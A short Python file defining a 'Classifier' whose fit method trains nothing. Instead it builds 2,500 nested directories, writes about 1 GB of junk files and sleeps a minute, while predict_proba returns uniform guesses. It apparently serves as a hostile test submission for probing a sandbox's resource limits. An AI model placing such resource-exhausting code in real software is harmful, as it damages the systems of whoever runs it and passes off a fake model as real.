import os
import time

import numpy as np


class Classifier:
    def fit(self, X, y):
        for _ in range(2500):
            os.mkdir("d")
            os.chdir("d")
        for i in range(100):
            with open(str(i), "wb") as file:
                file.write(bytes(10_000_000))
        time.sleep(60)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
